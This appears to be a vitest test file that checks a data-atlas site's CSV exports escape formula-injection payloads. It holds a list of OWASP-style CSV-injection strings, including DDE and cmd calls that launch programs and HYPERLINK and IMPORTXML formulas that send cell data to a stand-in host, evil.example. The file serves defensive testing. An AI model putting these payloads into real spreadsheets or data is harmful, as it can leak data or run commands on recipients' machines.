/**
 * OWASP's CSV-injection payloads through every CSV the site writes — a chart's table, all data, the data
 * package (each file of the zip) and the import template — read back: no text cell may start as a
 * formula, numbers stay numbers, and the text reads back as written once its apostrophe is taken off.
 */
import { describe, it, expect } from 'vitest';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { unzipSync } from 'fflate';
import { csvCell, toCsv, parseCsv } from '../../src/data/csv.ts';
import { tableCsv, fullCsv } from '../../src/export/csv.ts';
import { dataPackage, templateCsv } from '../../src/import/package.ts';
import { applyUserLayer } from '../../src/data/userLayer.ts';
import { buildUserLayer } from '../../src/import/build.ts';
import { mapHeaders } from '../../src/import/headers.ts';
import { readTable } from '../../src/import/decode.ts';
import { Gazetteer, type GazetteerJson } from '../../src/import/gazetteer.ts';
import { ensureLang } from '../../src/i18n/index.ts';
import type { Atlas } from '../../src/data/schema.ts';
import { readAtlas } from '../atlasFile.ts';

const ROOT = join(import.meta.dirname, '../..');
const atlas = readAtlas() as Atlas;
const gz = new Gazetteer(JSON.parse(readFileSync(join(ROOT, 'data/gazetteer/places.json'), 'utf8')) as GazetteerJson);

/** OWASP "CSV Injection" examples and the variants spreadsheets are known to run. */
export const PAYLOADS = [
  '=1+1',
  '+1+1',
  '-1+1',
  '-2+3',
  "-2+3+cmd|' /C calc'!A0",
  '@SUM(1+1)',
  "@SUM(1+9)*cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
  "=cmd|' /C calc'!A0",
  '=DDE("cmd";"/C calc";"!A0")A0',
  "+cmd|' /C notepad'!'A1'",
  '=IMPORTXML(CONCAT("http://evil.example/?v=",CONCATENATE(A2:E2)),"//a")',
  '\t=1+1',
  '\r=1+1',
  '=1+1\n=2+2',
  '-@SUM(1)',
  '+-1+1',
];
const NUMBERS = ['-5', '-0.5', '1.2e3', '-.5', '42'];

/** A cell as a spreadsheet would see it: dangerous when it starts a formula and is not only a number. */
const runs = (cell: string) => cell.length > 1 && /^[=+\-@\t\r]/.test(cell) && !/^-?(\d+\.?\d*|\.\d+)([eE][-+]?\d+)?$/.test(cell);
const unescape = (cell: string) => (cell.startsWith("'") ? cell.slice(1) : cell);
const cellsOf = (csv: string) => {
  const t = parseCsv(csv);
  return [t.header, ...t.rows.map((r) => r.cells)].flat();
};

describe('one escaping rule for every CSV the site writes', () => {
  it('csvCell: every payload gets an apostrophe, numbers and plain text do not', () => {
    for (const p of PAYLOADS) expect(csvCell(p), JSON.stringify(p)).toBe(`'${p}`);
    for (const n of NUMBERS) expect(csvCell(n)).toBe(n);
    expect(csvCell(-5)).toBe('-5');
    expect(csvCell('安平丝网')).toBe('安平丝网');
    expect(csvCell(null)).toBe('');
    // A lone sign has nothing to run: comparators and placeholders read back as they are.
    for (const c of ['=', '+', '-']) expect(csvCell(c)).toBe(c);
  });

  it('toCsv: the payloads read back as text, as written once the apostrophe is off', () => {
    const csv = toCsv(['name', 'value'], PAYLOADS.map((p, i) => [p, -i]));
    const t = parseCsv(csv);
    expect(t.rows.map((r) => unescape(r.cells[0]!))).toEqual(PAYLOADS);
    expect(t.rows.map((r) => r.cells[1])).toEqual(PAYLOADS.map((_, i) => String(-i)));
    for (const c of cellsOf(csv)) expect(runs(c), JSON.stringify(c)).toBe(false);
  });

  it("a chart's table: payloads in labels and headers", () => {
    const csv = tableCsv({ columns: ['=region', 'value'], rows: PAYLOADS.map((p) => [p, 1]) }, '=cite');
    for (const c of cellsOf(csv.slice(1))) expect(runs(c), JSON.stringify(c)).toBe(false);
    expect(csv).toContain("'=cite");
  });

  describe('a user layer made of payloads', () => {
    const rows = PAYLOADS.map((p, i) => `"${p.replace(/"/g, '""')}",安平县,${i + 1},2023,"${p.replace(/"/g, '""')}"`);
    const file = new TextEncoder().encode(['集群名称,所在地,产值（亿元）,年份,备注', ...rows].join('\n'));
    const table = readTable(file);
    const opts = { fileName: 'hostile.csv', sourceLine: '=HYPERLINK("http://evil.example/")', grade: 'official' as const, mode: 'beside' as const, defaultMetric: 'output', defaultStage: 'baseline' as const, defaultYear: null, defaultSector: 'other', choices: {}, now: '2025-01-02T00:00:00.000Z' };
    const payload = buildUserLayer(table, mapHeaders(table.header, atlas.metrics), opts, atlas, gz).payload;

    it('is imported whole, the names kept as written', () => {
      // "\t=1+1" and "\r=1+1" are trimmed to "=1+1": one cluster with three rows.
      expect(new Set(payload.clusters.map((c) => c.name_zh))).toEqual(new Set(PAYLOADS.map((p) => p.trim())));
    });

    it('all data (zh and en)', async () => {
      await ensureLang('en');
      for (const lang of ['zh', 'en'] as const) {
        const csv = fullCsv(applyUserLayer(atlas, payload), lang, '-cite').slice(1);
        const cells = cellsOf(csv);
        for (const c of cells) expect(runs(c), JSON.stringify(c)).toBe(false);
        expect(cells).toContain(`'=1+1`);
        expect(cells).toContain(`'-2+3`);
      }
    });

    it('the data package: every file of the zip', () => {
      const files = unzipSync(dataPackage(payload));
      expect(Object.keys(files).sort()).toEqual(['batches.csv', 'clusters.csv', 'figures.csv', 'programmes.csv', 'sites.csv', 'sources.csv']);
      for (const [name, bytes] of Object.entries(files)) {
        const cells = cellsOf(new TextDecoder().decode(bytes).replace(/^\uFEFF/, ''));
        for (const c of cells) expect(runs(c), `${name}: ${JSON.stringify(c)}`).toBe(false);
      }
      const clusters = parseCsv(new TextDecoder().decode(files['clusters.csv']).replace(/^\uFEFF/, ''));
      const name = clusters.header.indexOf('name_zh');
      expect(new Set(clusters.rows.map((r) => unescape(r.cells[name]!)))).toEqual(new Set(PAYLOADS.map((p) => p.trim())));
    });
  });

  it("the atlas's own data package (public/data/cluster-atlas-data.zip, made by the data build)", () => {
    const files = unzipSync(new Uint8Array(readFileSync(join(ROOT, 'public/data/cluster-atlas-data.zip'))));
    expect(Object.keys(files)).toContain('figures.csv');
    for (const [name, bytes] of Object.entries(files)) {
      for (const c of cellsOf(new TextDecoder().decode(bytes).replace(/^\uFEFF/, ''))) expect(runs(c), `${name}: ${JSON.stringify(c)}`).toBe(false);
    }
  });

  it('the import template (zh, en)', () => {
    for (const lang of ['zh', 'en'] as const) for (const c of cellsOf(templateCsv(lang).slice(1))) expect(runs(c)).toBe(false);
  });
});
